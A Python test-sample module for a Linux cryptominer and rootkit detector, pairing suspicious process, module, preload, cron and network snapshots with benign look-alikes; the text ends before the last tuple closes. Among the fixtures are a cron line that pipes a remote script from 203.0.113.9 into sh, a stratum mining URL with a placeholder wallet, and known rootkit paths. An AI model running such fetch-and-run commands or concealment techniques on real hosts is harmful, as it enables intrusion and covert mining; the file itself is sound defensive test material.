"""For every detector samples of what it must see, with the subject it must name, and of what it must leave alone.

What must be left alone are the honest look-alikes: most of them have put an innocent on some scanner's list.
"""

from __future__ import annotations

from typing import Any, Final

from tests.unit.detect import (
    samples_autostarts,
    samples_containers,
    samples_content,
    samples_families,
    samples_memory,
    samples_news,
    samples_rounding,
    samples_verdict,
    samples_workload,
)
from tests.unit.detect.sample import Sample
from tests.unit.snapshots import (
    MODULE_VIEWS,
    PYENV,
    TTY,
    Fact,
    accounting,
    connection,
    cover,
    cron,
    detail,
    executable,
    hidden,
    kernel_thread,
    known_file,
    listener,
    module_file,
    module_row,
    module_table,
    modules_load,
    preload,
    process,
    process_table,
    renewal,
    service,
    snapshot,
)

from davy.model.concealment import (
    Cover,
    CoverKind,
    HiddenName,
    ModuleTable,
    ModuleView,
    Preload,
    PreloadKind,
    ProcessRow,
    ProcessTable,
    View,
)
from davy.model.facts import Process, Restart
from davy.model.findings import HOST

WALLET: Final = "4" + "A" * 94
_POOL: Final = ("101.32.166.253", 3333)
"""An address and port on Maltrail's list of pools."""


def _one(of: Process, rule: str, what: str, *facts: Fact, **options: Any) -> Sample:
    return Sample(rule, what, snapshot(of, *facts, **options), of.subject)


def _library(rule: str, what: str, of: Preload, *facts: Fact) -> Sample:
    return Sample(rule, what, snapshot(of, *facts), of.subject)


def _none(rule: str, what: str, *facts: Fact, **options: Any) -> Sample:
    return Sample(rule, what, snapshot(*facts, **options))


_BURNER: Final = process(100, "/tmp/abcd", cores=1.0)
_PYTHON: Final = "/usr/bin/python3.11"
_RENEWED: Final = process(101, "/tmp/abcd", in_window=False, age=0.01)
_UPGRADED: Final = process(102, "/usr/sbin/nginx", deleted=True)
_POSTGRES: Final = process(
    103, "postgres: checkpointer ", exe="/usr/lib/postgresql/15/bin/postgres", name="postgres", user="nobody"
)
_NGINX: Final = process(104, "nginx: worker process", exe="/usr/sbin/nginx", user="www-data")
_VENV: Final = process(105, "/srv/app/.venv/bin/python", "/srv/app/main.py", exe="/srv/app/.venv/bin/python")
_COPY: Final = process(106, "/tmp/abcd", "-c", "while :; do :; done")
_SHELL: Final = process(107, "-bash", exe="/usr/bin/bash", user="ada", tty=TTY, session=107)
_TRAINING: Final = process(
    108, "python3", "train.py", exe=PYENV, cwd="/home/ada/work", ppid=107, user="ada", tty=TTY, session=107, cores=1.0
)
_NOBODYS: Final = process(109, "/tmp/abcd", cores=1.0, session=107)
_RUNC: Final = process(110, "runc", "init", exe="/memfd:runc_cloned:/proc/self/exe", memory_only=True)
_COMPILER: Final = process(111, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "x.c", cores=1.0, tty=TTY)
_BUSYBOX: Final = process(112, "crond", "-f", exe="/bin/busybox", name="crond")
_SERVER: Final = process(113, "/opt/app/server", deleted=True, cores=1.0)
_UNREAD: Final = process(115, exe=None, name="")
_ONE_VIEW: Final = ProcessRow(
    pid=100, start_ticks=_BURNER.start_ticks, name="x", seen=frozenset({View.PIDFD}), missing=frozenset({View.LISTING})
)
_JEMALLOC: Final = "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"
_AGENT: Final = "/opt/datadog-packages/datadog-apm-inject/stable/inject/launcher.preload.so"
_LOADER: Final = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
_ENVIRONMENT: Final = PreloadKind.ENVIRONMENT
_MODULE: Final = "/lib/udev/usb_control/iptable_mac.ko"
_TOOL: Final = process(114, "/usr/sbin/sshd", exe="/opt/x/tool", name="sshd")


def _cover(rule: str, what: str, *facts: Fact) -> Sample:
    (found,) = {fact.subject for fact in facts if isinstance(fact, Cover)}
    return Sample(rule, what, snapshot(*facts), found)


_IDLE: Final = "claims 0.0 busy cores while the kernel counts 1.9"
_OTHER: Final = "is another file than the package procps installed"
_LISTINGS: Final = (ModuleView.LISTING, ModuleView.OWN_LISTING)
_MAC: Final = "/lib/udev/usb_control/iptable_mac.ko"
_LOAD: Final = modules_load("iptable_mac")
_OUT_OF_TREE: Final = 1 << 12
_UNSIGNED: Final = 1 << 13
_MAC_LOADED: Final = module_table("loop", module_row("iptable_mac", taint="OE", file=_MAC))
_NVIDIA: Final = module_row("nvidia", taint="POE", file="/lib/modules/6.1.0/updates/dkms/nvidia.ko")


def _module(name: str, rule: str, what: str, *facts: Fact) -> Sample:
    return Sample(rule, what, snapshot(*facts), f"module:{name}")


MATCHING: Final = (
    *samples_autostarts.MATCHING,
    *samples_content.MATCHING,
    *samples_rounding.MATCHING,
    *samples_workload.MATCHING,
    *samples_families.MATCHING,
    *samples_containers.MATCHING,
    *samples_news.MATCHING,
    *samples_verdict.MATCHING,
    # concealment: covers
    _cover("concealment.covered-process", "a tmpfs over a miner's folder", _BURNER, cover("/proc/100", hides=_BURNER)),
    _cover(
        "concealment.covered-process",
        "two mounts over one folder",
        _BURNER,
        cover("/proc/100", hides=_BURNER),
        cover("/proc/100", hides=_BURNER, mount_id=901, parent_id=900),
    ),
    _cover(
        "concealment.covered-process",
        "a mount over the folder of one that has ended",
        cover("/proc/99", kind=CoverKind.PROCESS),
    ),
    _cover("concealment.covered-kernel-file", "an idle machine, as a file says", cover("/proc/stat", forged=_IDLE)),
    _cover("concealment.covered-kernel-file", "a file nobody could compare", cover("/proc/modules")),
    _cover(
        "concealment.covered-kernel-file",
        "a container's file system outside of any",
        cover("/proc/stat", filesystem="fuse.lxcfs"),
    ),
    _cover(
        "concealment.covered-program",
        "another ps",
        cover("/usr/bin/ps", kind=CoverKind.PROGRAM, forged=_OTHER),
    ),
    # behaviour
    _one(_BURNER, "behaviour.cpu-load", "a burner that has run for an hour"),
    _one(process(100, "/x", cores=1.0, age=3.0), "behaviour.cpu-load", "a burner that is three seconds old"),
    _one(process(100, "/x", cores=0.2, waited=0.6), "behaviour.cpu-load", "one that the CPUs have no time for"),
    _one(process(100, "/x", cores=7.5, threads=8), "behaviour.cpu-load", "one with many threads"),
    _one(_RENEWED, "behaviour.renews-itself", "a miner under ever new pids", renewal("/tmp/abcd")),
    # origin
    _one(_BURNER, "origin.writable-folder", "a program in /tmp"),
    _one(process(100, "/dev/shm/x"), "origin.writable-folder", "a program in shared memory"),
    _one(process(100, "/dev/x"), "origin.writable-folder", "a program among the devices"),
    _one(process(100, "sh", "/tmp/x.sh", exe="/usr/bin/dash"), "origin.writable-folder", "a script in /tmp"),
    _one(
        process(100, "/tmp/python3", "/home/ada/notes.txt"),
        "origin.writable-folder",
        "a program that bears an interpreter's name, and so an argument that looks like its script",
    ),
    _one(
        drop := process(100, "/srv/drop/x"),
        "origin.writable-folder",
        "a world-writable folder elsewhere",
        detail(drop, folder_mode=0o1777),
    ),
    _one(process(100, "/var/lib/.../x"), "origin.hidden-folder", "a folder that is called like a dot too many"),
    _one(process(100, "/root/.configrc5/a/kswapd0"), "origin.hidden-folder", "a hidden folder in a home"),
    _one(process(100, "/usr/bin/.sshd"), "origin.hidden-folder", "a hidden name beside honest ones"),
    _one(
        process(100, "/dev/shm/.x/bash", "-q", "x.conf"),
        "origin.hidden-folder",
        "a program that bears an interpreter's name",
    ),
    _one(process(100, "/tmp/x", deleted=True), "origin.deleted-executable", "a miner that removed its file"),
    _one(_SERVER, "origin.deleted-executable", "a program of nobody's package"),
    _one(process(100, "x", exe="/memfd:x", memory_only=True), "origin.memory-only", "a program in memory"),
    _one(
        process(100, "x", exe="/memfd:runc_cloned:/proc/self/exe", memory_only=True, cores=1.0),
        "origin.memory-only",
        "a container runtime's name, and it burns",
    ),
    # kernel modules
    _module(
        "x",
        "concealment.hidden-module",
        "one that took itself out of the kernel's list",
        module_table("loop", module_row("x", missing=_LISTINGS, taint="OE", file=None)),
    ),
    _module(
        "x",
        "concealment.hidden-module",
        "one that a filtered copy leaves out",
        module_table("loop", module_row("x", missing=_LISTINGS[:1], taint="OE", file=None)),
    ),
    _module(
        "loop",
        "concealment.hidden-module",
        "one of the kernel's own that is out of the kernel's list",
        module_table("dm_mod", module_row("loop", missing=_LISTINGS)),
    ),
    _module(
        "x",
        "concealment.hidden-module",
        "one that only its functions betray",
        module_table("loop", module_row("x", seen=(ModuleView.TRACED,), missing=MODULE_VIEWS, file=None)),
    ),
    Sample(
        "concealment.stray-module-memory",
        "a module that took itself out of every list",
        snapshot(module_table("loop", stray_bytes=16384)),
        HOST,
    ),
    Sample(
        "concealment.hooked-function",
        "a hook of getdents64",
        snapshot(module_table("loop", hooks=("__x64_sys_getdents64", "schedule"))),
        HOST,
    ),
    Sample(
        "concealment.unlisted-module-file",
        "a file that no listing shows",
        snapshot(unlisted := module_file(_MAC, listed=False)),
        unlisted.subject,
    ),
    Sample(
        "concealment.unexplained-taint",
        "a taint that nobody bears",
        snapshot(module_table("loop", taint=_OUT_OF_TREE | _UNSIGNED)),
        "kernel:taint",
    ),
    _module(
        "x",
        "concealment.unexplained-taint",
        "a taint whose module only the log names",
        module_table("loop", module_row("x", seen=(ModuleView.LOG,), missing=MODULE_VIEWS), taint=_OUT_OF_TREE),
    ),
    _module(
        "iptable_mac",
        "identity.known-module",
        "a known file whose module is loaded",
        module_file(_MAC),
        _MAC_LOADED,
    ),
    Sample("identity.known-module", "a known file", snapshot(lying := module_file(_MAC)), lying.subject),
    _module("diamorphine", "identity.known-module", "a known name without a file", module_table("diamorphine")),
    _module(
        "iptable_mac",
        "origin.module-place",
        "a file among the rules of udev",
        module_file(_MAC),
        _MAC_LOADED,
    ),
    Sample(
        "origin.module-place",
        "a file that bears the name of an honest module, which is loaded",
        snapshot(borrower := module_file("/tmp/loop.ko"), module_table("loop")),
        borrower.subject,
    ),
    Sample("origin.module-place", "a file in /tmp", snapshot(dropped := module_file("/tmp/x.ko")), dropped.subject),
    _module(
        "x",
        "origin.foreign-module",
        "one that was loaded by its path",
        module_table("loop", module_row("x", taint="OE", file=None)),
    ),
    _module(
        "iptable_mac",
        "persistence.autoloaded-module",
        "one that modules-load.d names",
        module_file(_MAC, loaded_by=(_LOAD,)),
        _MAC_LOADED,
        _LOAD,
    ),
    # identity
    _one(process(100, "/tmp/kdevtmpfsi"), "identity.family", "a family's path and name"),
    _one(process(100, "x", exe="/opt/a", name="kinsing"), "identity.family", "a family's name as the comm"),
    _one(process(100, "/opt/a/xmrig"), "identity.family", "a family's name elsewhere"),
    _one(process(100, exe=None, name="kdevtmpfsi"), "identity.family", "another user's, as seen without root"),
    Sample(
        "identity.known-file",
        "a file where a family has it",
        snapshot(remain := known_file("/tmp/kdevtmpfsi", "kinsing")),
        remain.subject,
    ),
    _one(process(100, "[kworker/0:1]", exe="/tmp/x", name="x"), "identity.kernel-thread", "brackets on a program"),
    _one(process(100, "/opt/x", name="kworker/0:1"), "identity.kernel-thread", "a kernel thread's comm on a program"),
    _one(process(100, "/opt/x/kthreaddi", "-q"), "identity.near-miss", "a kernel thread's name but for a letter"),
    _one(process(100, "/opt/x/sshdd", cores=1.0), "identity.near-miss", "a daemon's name but for a letter"),
    _one(_TOOL, "identity.argv-against-exe", "an unknown program that says it is sshd"),
    _one(
        process(100, "sshd: root@pts/0", exe="/opt/x/tool", name="tool"),
        "identity.argv-against-exe",
        "an unknown program under the title of a login",
    ),
    _one(
        process(100, "cron", "-f", exe="/tmp/busybox"),
        "identity.argv-against-exe",
        "a program of many names where anyone may write",
    ),
    _one(
        _COPY,
        "identity.renamed-copy",
        "a shell under another name",
        detail(_COPY, program=executable("/tmp/abcd", twin="/usr/bin/dash")),
    ),
    # content
    _one(
        process(100, "/opt/x", "-o", "stratum+tcp://192.0.2.1:3333", "-u", WALLET),
        "content.mining-words",
        "a server and a wallet",
    ),
    _one(process(100, "/opt/x", "--max-cpu-usage", "75"), "content.mining-words", "an option that few others have"),
    _one(
        process(100, "grep", "--donate-level=1", exe="/tmp/x"),
        "content.mining-words",
        "a miner that calls itself grep",
    ),
    # network
    _one(_BURNER, "network.pool", "a known pool", connection(_BURNER, *_POOL)),
    _one(_BURNER, "network.pool", "a pool behind an IPv6 name", connection(_BURNER, f"::ffff:{_POOL[0]}", _POOL[1])),
    _one(_BURNER, "network.pool", "a port that pools use", connection(_BURNER, "8.8.8.8", 14444)),
    _one(_BURNER, "network.pool", "a pool that does not answer", connection(_BURNER, *_POOL, state="SYN_SENT")),
    # persistence
    Sample(
        "persistence.suspicious-autostart",
        "a line that fetches and runs",
        snapshot(line := cron("wget -q -O - http://203.0.113.9/unk.sh | sh > /dev/null 2>&1")),
        line.subject,
    ),
    Sample(
        "persistence.suspicious-autostart",
        "a unit that runs from where anyone may write",
        snapshot(unit := service("/var/tmp/x")),
        unit.subject,
    ),
    Sample("identity.autostart", "a family's path", snapshot(line := cron("/var/tmp/kinsing")), line.subject),
    _one(_BURNER, "persistence.started-again", "a cron line runs it", cron("/tmp/abcd -q")),
    _one(_SERVER, "persistence.started-again", "a unit runs it", service("/opt/app/server")),
    _one(
        process(100, "/tmp/bash", "-q"),
        "persistence.started-again",
        "a cron line runs what only bears an interpreter's name",
        cron("/tmp/bash -q"),
    ),
    _one(
        process(100, "sh", "/opt/x.sh", exe="/usr/bin/dash"),
        "persistence.started-again",
        "a cron line runs its script",
        cron("sh /opt/x.sh"),
    ),
    _one(
        process(100, "/tmp/abcd"),
        "persistence.came-back",
        "one that burns nothing and was started again",
        watcher := process(101, "/tmp/watcher"),
        Restart(watcher.key, "/tmp/abcd"),
    ),
    # preloads
    _library("concealment.preload-file", "a library of nobody's", preload("/usr/local/lib/libprocesshider.so")),
    _library("concealment.preload-file", "one in /etc", preload("/etc/libsystem.so")),
    _library("concealment.preload-file", "one that is gone", preload("/opt/injector.so", there=False)),
    _library("concealment.preload-file", "a package's, changed", preload("/usr/lib/libnss_x.so", unmodified=False)),
    _library("concealment.preload-file", "a known product's, which counts for little", preload(_AGENT)),
    _library("identity.preload", "one of Kinsing's", preload("/etc/libsystem.so")),
    _library("concealment.preload-hides", "a burner", preload("/opt/x.so", hides=[_BURNER]), _BURNER),
    _library("concealment.preload-hides", "a package's library that hides", preload(_JEMALLOC, hides=[_BURNER])),
    _library("concealment.preload-forges", "an idle machine", preload("/opt/x.so", forges=("/proc/stat",))),
    _one(_BURNER, "concealment.hidden-by-library", "a burner", preload("/opt/x.so", hides=[_BURNER])),
    _library("concealment.preload-names", "a burner's name", preload("/opt/x.so", names=[_BURNER]), _BURNER),
    _library(
        "concealment.preload-environment",
        "a library in /dev/shm",
        preload("/dev/shm/x.so", kind=PreloadKind.ENVIRONMENT, pids=(104,)),
    ),
    _library(
        "concealment.preload-environment", "Davy's own environment", preload("/srv/x.so", kind=PreloadKind.ENVIRONMENT)
    ),
    _library(
        "concealment.loader",
        "one that reads another file",
        preload(_LOADER, kind=PreloadKind.LOADER, unmodified=False, text="its preload file: /lib/.x/ld.preload"),
    ),
    _library("concealment.loader", "another content", preload(_LOADER, kind=PreloadKind.LOADER, unmodified=False)),
    _library(
        "concealment.mapped-everywhere",
        "one that no file names",
        preload("/usr/lib/libx.so", kind=PreloadKind.MAPPED, owner_package=None, pids=(1, 2, 3, 4)),
    ),
    Sample(
        "concealment.hidden-name",
        "a module that its folder does not list",
        snapshot(unlisted := HiddenName(path=_MODULE, listed_by="the kernel's", named_by="a known path")),
        unlisted.subject,
    ),
    # trust
    _one(_COMPILER, "trust.packaged", "a compiler at work"),
    _one(
        unpacked := process(100, "/usr/bin/xz", "-T0", "x", cores=1.0),
        "trust.packaged",
        "a package that kept no sums of its files",
        detail(unpacked, program=executable("/usr/bin/xz", unmodified=None)),
    ),
    _one(
        process(100, "python3", "/usr/bin/unattended-upgrade", exe=_PYTHON, cores=1.0),
        "trust.packaged",
        "a packaged script",
    ),
    _one(_TRAINING, "trust.person", "a training run that a person typed", _SHELL),
    _one(
        typed := process(100, "openssl", "speed", exe="/usr/bin/openssl", ppid=115, tty=TTY, session=107, cores=1.0),
        "trust.person",
        "behind a program that a person typed",
        _SHELL,
        process(115, "make", exe="/usr/bin/make", ppid=107, tty=TTY, session=107),
        detail(typed),
        examined=False,
    ),
    # concealment
    _one(_BURNER, "concealment.hidden-process", "a mount over its folder", hidden(_BURNER, View.LOOK_UP, covered=True)),
    _one(_BURNER, "concealment.hidden-process", "a preloaded library", hidden(_BURNER, View.LISTING)),
    _one(
        _BURNER,
        "concealment.hidden-process",
        "a hook of getdents64",
        hidden(_BURNER, View.LISTING, View.GETDENTS, View.OWN_LISTING),
    ),
    Sample(
        "concealment.hidden-process",
        "one of which nothing can be read",
        snapshot(hidden(_UNREAD, View.LISTING, View.GETDENTS, View.LOOK_UP)),
        _UNREAD.subject,
    ),
    Sample(
        "concealment.uncounted-threads",
        "a process that was taken out of every list",
        snapshot(process_table(90, uncounted=8)),
        HOST,
    ),
    Sample(
        "concealment.ownerless-socket",
        "a pool that nobody talks to",
        snapshot(connection(_BURNER, *_POOL, ownerless=True)),
        HOST,
    ),
    Sample(
        "concealment.unowned-cpu",
        "a core that nobody owns",
        snapshot(accounting((1.9, 0.9, 0.1), (1.9, 0.9, 0.0), groups={"/user.slice": 0.9}, sampled=1.9)),
        HOST,
    ),
    _one(
        _BURNER,
        "concealment.unowned-cpu",
        "a core that a hidden process takes",
        hidden(_BURNER, View.LISTING),
        accounting((1.1, 0.1, 0.0), (1.1, 0.1, 0.0)),
    ),
    Sample(
        "concealment.forged-numbers",
        "an idle machine, says a file over /proc/stat",
        snapshot(accounting((2.0, 2.0, 0.0), (2.0, 2.0, 0.0), claimed=0.0)),
        HOST,
    ),
    Sample(
        "concealment.forged-numbers",
        "a kernel that counts less than is on its CPUs",
        snapshot(accounting((0.1, 0.1, 0.0), (0.1, 0.1, 0.0), claimed=0.1, sampled=1.9)),
        HOST,
    ),
    *samples_memory.MATCHING,
)

SPARED: Final = (
    *samples_autostarts.SPARED,
    *samples_content.SPARED,
    *samples_rounding.SPARED,
    *samples_workload.SPARED,
    *samples_families.SPARED,
    *samples_containers.SPARED,
    *samples_news.SPARED,
    *samples_verdict.SPARED,
    # concealment
    _none("concealment.hidden-process", "everybody is listed", _BURNER, process_table(90)),
    _none(
        "concealment.hidden-process",
        "one that only one of the kernel's views shows",
        _BURNER,
        ProcessTable(columns=(View.LISTING, View.PIDFD), rows=(_ONE_VIEW,)),
    ),
    _none("concealment.hidden-process", "no table at all", _BURNER),
    _none("concealment.uncounted-threads", "all are seen", process_table(90)),
    _none("concealment.ownerless-socket", "a miner's own connection", _BURNER, connection(_BURNER, *_POOL)),
    _none(
        "concealment.ownerless-socket",
        "a descriptor on its way to another process",
        connection(_BURNER, "192.0.2.80", 443, ownerless=True),
    ),
    _none("concealment.unowned-cpu", "a busy machine", accounting((2.0, 1.98, 0.0), (2.0, 1.97, 0.01))),
    _none("concealment.unowned-cpu", "a compile", accounting((2.0, 1.2, 0.9), (2.0, 1.1, 0.9))),
    _none("concealment.unowned-cpu", "a moment of it", accounting((2.0, 1.0, 0.0), (0.2, 0.2, 0.0))),
    _none("concealment.unowned-cpu", "one look only", accounting((2.0, 1.0, 0.0))),
    _none("concealment.unowned-cpu", "no account", _BURNER),
    _none(
        "concealment.forged-numbers", "the same from all", accounting(*[(1.5, 1.5, 0.0)] * 2, claimed=1.4, sampled=1.6)
    ),
    _none(
        "concealment.forged-numbers",
        "programs that sleep at every tick, which is where /proc/stat looks",
        accounting(*[(1.7, 1.7, 0.0)] * 2, claimed=0.4, counted=0.4, sampled=1.6),
    ),
    _none("concealment.forged-numbers", "nothing to compare with", accounting(*[(1.5, 1.5, 0.0)] * 2)),
    _none(
        "concealment.forged-numbers",
        "fewer samples: a virtual machine that is not given its CPUs",
        accounting(*[(1.5, 1.5, 0.0)] * 2, claimed=1.5, sampled=0.6),
    ),
    # behaviour
    _none("behaviour.cpu-load", "a sleeper", process(100, "/usr/bin/sleep", "9")),
    _none("behaviour.cpu-load", "a busy kernel thread", kernel_thread(50, "kworker/0:1-events", cores=1.0)),
    _none("behaviour.cpu-load", "Davy itself", process(100, "davy", exe=_PYTHON, cores=1.0), own_pids=(100,)),
    _none("behaviour.cpu-load", "a moment's work", process(100, "/usr/bin/git", "status", cores=0.3)),
    _none("behaviour.cpu-load", "one that was born within the window", _RENEWED),
    _none(
        "behaviour.renews-itself",
        "a loop that sleeps a tenth of a second, again and again",
        process(100, "sleep", "0.1", exe="/usr/bin/sleep", in_window=False),
        renewal("/usr/bin/sleep", running=1),
    ),
    _none(
        "behaviour.renews-itself",
        "one of the same program that was there all the time",
        process(100, "/opt/x"),
        renewal("/opt/x"),
    ),
    # origin
    _none("origin.writable-folder", "an installed program", _NGINX),
    _none(
        "origin.writable-folder",
        "a script given on a descriptor, whose name is in /dev",
        process(100, "bash", "/dev/fd/63", exe="/usr/bin/bash"),
    ),
    _none("origin.writable-folder", "a folder whose name begins alike", process(100, "/tmpfiles/x")),
    _none("origin.writable-folder", "a program of a private folder", _SERVER),
    _none("origin.writable-folder", "an argument in /tmp", process(100, "/usr/bin/gcc", "-o", "/tmp/x")),
    _none("origin.hidden-folder", "pyenv's interpreter", process(100, "python3", "-m", "http.server", exe=PYENV)),
    _none("origin.hidden-folder", "a virtual environment", _VENV),
    _none("origin.hidden-folder", "an editor's server", process(100, "/home/ada/.vscode-server/bin/0/node")),
    _none(
        "origin.hidden-folder", "an agent's own installer", process(100, "sh", "/root/.acme.sh/acme.sh", exe="/bin/sh")
    ),
    _none("origin.deleted-executable", "a packaged service after an upgrade", _UPGRADED),
    _none("origin.deleted-executable", "a program that is there", _BURNER),
    _none("origin.deleted-executable", "a program in memory, which never was there", _RUNC),
    _none("origin.memory-only", "a container runtime that starts", _RUNC),
    _none("origin.memory-only", "a deleted program", _SERVER),
    # identity
    _none("identity.family", "the kernel's own thread", kernel_thread(51, "kdevtmpfs")),
    _none("identity.family", "an editor with the miner's path", process(100, "/usr/bin/vim", "/tmp/kdevtmpfsi")),
    _none("identity.family", "a loop that looks for it", process(100, "sh", "-c", "pkill kdevtmpfsi", exe="/bin/sh")),
    _none("identity.family", "a file indexer", process(100, "/usr/libexec/tracker-miner-fs-3")),
    _none("identity.known-file", "an ordinary file", known_file("/tmp/notes", "kinsing")),
    _none("identity.kernel-thread", "a kernel thread", kernel_thread(52, "kworker/0:1-events", cores=1.0)),
    _none("identity.kernel-thread", "one that has ended", process(100, exe=None, name="kworker/0:1", state="Z")),
    _none("identity.kernel-thread", "a title in brackets", process(100, "[celeryd: w@h:MainProcess]", exe=_PYTHON)),
    _none("identity.kernel-thread", "a tool with a thread's name", process(100, "/usr/bin/kauditd", cores=1.0)),
    _none("identity.near-miss", "sshd itself", process(100, "/usr/sbin/sshd", "-D")),
    _none("identity.near-miss", "a packaged neighbour", process(100, "/usr/sbin/lldpad", cores=1.0)),
    _none("identity.near-miss", "the kernel's shortened name", process(100, "/opt/x", name="systemd-network")),
    _none("identity.near-miss", "a packaged program whose name is near", process(100, "/usr/bin/ngjnx", cores=1.0)),
    _none("identity.argv-against-exe", "nginx under its own title", _NGINX),
    _none("identity.argv-against-exe", "postgres under its own title", _POSTGRES),
    _none(
        "identity.argv-against-exe",
        "a container's sshd, which no package here owns",
        process(100, "sshd: ada", exe="/srv/sshd"),
    ),
    _none("identity.argv-against-exe", "a container's busybox, which is many daemons", _BUSYBOX, detail(_BUSYBOX)),
    _none("identity.argv-against-exe", "a login shell", _SHELL, detail(_SHELL)),
    _none(
        "identity.renamed-copy",
        "a virtual environment made with copies",
        _VENV,
        detail(_VENV, program=executable(_VENV.exe_path or "", twin=_PYTHON)),
    ),
    _none("identity.renamed-copy", "a program that is nobody's copy", _BURNER),
    _none("identity.renamed-copy", "the packaged program itself", _COMPILER),
    # content
    _none(
        "content.mining-words", "a search for mining words", process(100, "/usr/bin/grep", "-r", "stratum+tcp://", ".")
    ),
    _none("content.mining-words", "a person's notes", process(100, "/usr/bin/vim", "xmrig", "--donate-level=1")),
    _none("content.mining-words", "a database's user", process(100, "/usr/bin/mysql", "-u", "root", "-p")),
    _none("content.mining-words", "a title without arguments", process(100, "miner: -o stratum+tcp://x", exe="/srv/x")),
    # network
    _none("network.pool", "a listener on port 3333", _NGINX, listener(_NGINX, 3333)),
    _none("network.pool", "the web", _NGINX, connection(_NGINX, "93.184.216.34", 443)),
    _none("network.pool", "a connection of nobody's", connection(_NGINX, *_POOL)),
    _none("network.pool", "one that is over", _NGINX, connection(_NGINX, *_POOL, state="TIME_WAIT")),
    _none("network.pool", "another protocol", _NGINX, connection(_NGINX, *_POOL, protocol="udp")),
    _none("network.pool", "an address that is none", _NGINX, connection(_NGINX, "pool", 3333)),
    # persistence
    _none("persistence.suspicious-autostart", "a backup", cron("/usr/bin/restic backup /srv > /tmp/log 2>&1")),
    _none(
        "persistence.suspicious-autostart", "a package's own line", cron("/tmp/x", owner_package="x", unmodified=True)
    ),
    _none("identity.autostart", "an unknown program", cron("/tmp/x")),
    _none(
        "identity.autostart", "a line that removes the miner", cron("rm -f /tmp/kdevtmpfsi; pkill -f /tmp/kdevtmpfsi")
    ),
    _none("persistence.started-again", "another line of the same file", _BURNER, cron("/usr/bin/true")),
    _none(
        "persistence.started-again",
        "a service that shares the interpreter",
        process(100, "python3", "/tmp/x.py", exe=_PYTHON),
        service(f"{_PYTHON} /srv/app.py"),
    ),
    _none(
        "persistence.came-back",
        "another program while one was started again",
        _NGINX,
        watcher := process(101, "/tmp/watcher"),
        Restart(watcher.key, "/tmp/abcd"),
    ),
    _none("persistence.came-back", "the same program before any eviction", _BURNER),
    # kernel modules
    _none("concealment.hidden-module", "all are listed", module_table("loop", _NVIDIA)),
    _none("concealment.hidden-module", "a kernel without loadable modules", ModuleTable(columns=())),
    _none(
        "concealment.hidden-module",
        "one of the kernel's own, loaded after an old copy was made",
        module_table("dm_mod", module_row("loop", missing=_LISTINGS[:1])),
    ),
    _none(
        "concealment.hidden-module",
        "a sandbox that shows no modules at all",
        module_table(*(module_row(name, missing=_LISTINGS[:1], taint="POE", file=None) for name in ("nvidia", "zfs"))),
    ),
    _none(
        "concealment.hidden-module",
        "one that was unloaded since it was logged",
        module_table("loop", module_row("x", seen=(ModuleView.LOG,), missing=MODULE_VIEWS)),
    ),
    _none("concealment.stray-module-memory", "all of it is some module's", module_table("loop")),
    _none("concealment.hooked-function", "what a security agent watches", module_table("loop", hooks=("do_exit",))),
    _none("concealment.hooked-function", "nothing is led elsewhere", module_table("loop")),
    _none("concealment.unlisted-module-file", "a file that is listed", module_file(_MAC)),
    _none(
        "concealment.unexplained-taint",
        "a driver that DKMS built",
        module_table(_NVIDIA, taint=1 | _OUT_OF_TREE | _UNSIGNED),
    ),
    _none("concealment.unexplained-taint", "a warning, and a write to an MSR", module_table("loop", taint=0x204)),
    _none("concealment.unexplained-taint", "no loadable modules at all", ModuleTable(columns=())),
    _none("identity.known-module", "names that resemble known ones", module_table("raid1", "iptable_mangle", "raid")),
    _none("identity.known-module", "a vendor's module", module_file("/opt/vendor/netlink.ko")),
    _none("origin.module-place", "what DKMS built", module_file("/lib/modules/6.1.0/updates/dkms/nvidia.ko")),
    _none("origin.module-place", "a vendor's module", module_file("/opt/vendor/driver.ko", loaded_by=(_LOAD,))),
    _none("origin.module-place", "what a developer builds at home", module_file("/home/ada/hello/hello.ko")),
    _none(
        "origin.foreign-module",
        "out of tree, and modprobe knows it",
        module_table(_NVIDIA, module_row("zfs", taint="PO", file="/lib/modules/6.1.0/extra/zfs.ko")),
    ),
    _none("origin.foreign-module", "of the kernel's tree", module_table("loop")),
    _none("persistence.autoloaded-module", "a file that nothing loads", module_file(_MAC)),
    _none("persistence.autoloaded-module", "a module of the kernel's own", modules_load("loop"), module_table("loop")),
    # preloads
    _none("concealment.preload-file", "a package's allocator", preload(_JEMALLOC)),
    _none(
        "concealment.preload-file",
        "a library that a process's own environment names",
        preload("/opt/x.so", kind=PreloadKind.ENVIRONMENT),
    ),
    _none("identity.preload", "an agent's", preload(_AGENT)),
    _none("identity.preload", "a package's library", preload("/etc/libsystem.so", owner_package="libsystem")),
    _none("concealment.preload-forges", "one that hides and forges nothing", preload("/opt/x.so", hides=[_BURNER])),
    _none("concealment.preload-hides", "one that nobody was hidden by", preload("/opt/x.so"), _BURNER),
    _none("concealment.hidden-by-library", "one that a library only names", _BURNER, preload("/x", names=[_BURNER])),
    _none(
        "concealment.preload-names", "the name of an idle daemon", preload("/opt/x.so", names=[_POSTGRES]), _POSTGRES
    ),
    _none(
        "concealment.preload-names",
        "a package's library with a burner's name",
        preload(_JEMALLOC, names=[_BURNER]),
        _BURNER,
    ),
    _none(
        "concealment.preload-environment", "stdbuf", preload("/usr/libexec/coreutils/libstdbuf.so", kind=_ENVIRONMENT)
    ),
    _none(
        "concealment.preload-environment",
        "an allocator built by hand",
        preload("/usr/local/lib/libjemalloc.so.2", kind=_ENVIRONMENT),
    ),
    _none("concealment.preload-environment", "one that is not there", preload("/x.so", kind=_ENVIRONMENT, there=False)),
    _none("concealment.loader", "a library in the preload file", preload("/opt/x.so")),
    _none("concealment.mapped-everywhere", "a known agent", preload(_AGENT, kind=PreloadKind.MAPPED)),
    _none("concealment.hidden-name", "a file that is there", known_file("/tmp/kdevtmpfsi", "kinsing")),
    # trust
    _none("trust.packaged", "a program of nobody's package", _BURNER),
    _none(
        "trust.packaged",
        "a copy of a packaged program",
        _COPY,
        detail(_COPY, program=executable("/tmp/abcd", twin="/usr/bin/dash")),
    ),
    _none(
        "trust.packaged",
        "a packaged path with another content",
        changed := process(100, "/usr/bin/xz", cores=1.0),
        detail(changed, program=executable("/usr/bin/xz", unmodified=False)),
    ),
    _none("trust.packaged", "a package's program whose file is gone", _UPGRADED, detail(_UPGRADED)),
    _none(
        "trust.packaged",
        "somebody's script, run by a packaged interpreter",
        process(100, "python3", "/srv/app.py", exe=_PYTHON, cores=1.0),
    ),
